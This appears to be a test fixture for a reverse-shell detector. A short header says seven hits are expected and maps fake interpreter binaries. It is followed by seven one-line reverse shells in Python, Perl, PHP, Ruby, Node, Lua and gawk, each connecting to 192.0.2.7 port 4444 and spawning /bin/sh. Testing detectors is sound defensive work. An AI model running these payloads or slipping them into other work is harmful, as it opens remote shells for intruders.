# SPDX-License-Identifier: Apache-2.0
# hits: 7
# fake: /usr/bin/php8.2=php /usr/bin/ruby3.1=ruby /usr/bin/node /usr/bin/lua5.4 /usr/bin/gawk
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")' 2> /dev/null
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")))){open(STDIN,">&S");exec("/bin/sh -i")}'
php -r '$s=fsockopen("192.0.2.7",4444);exec("/bin/sh <&3 >&3 2>&3");'
ruby -rsocket -e 'f=TCPSocket.open("192.0.2.7",4444).to_i;exec sprintf("/bin/sh <&%d >&%d",f,f)'
node -e 'var n=require("net"),p=require("child_process").spawn("sh");n.connect(4444,"192.0.2.7",function(){this.pipe(p.stdin)})'
lua5.4 -e 's=require("socket").tcp();s:connect("192.0.2.7",4444);io.popen(s:receive())'
gawk 'BEGIN {s="/inet/tcp/0/192.0.2.7/4444"; while (s |& getline c) while (c | getline) print |& s}'
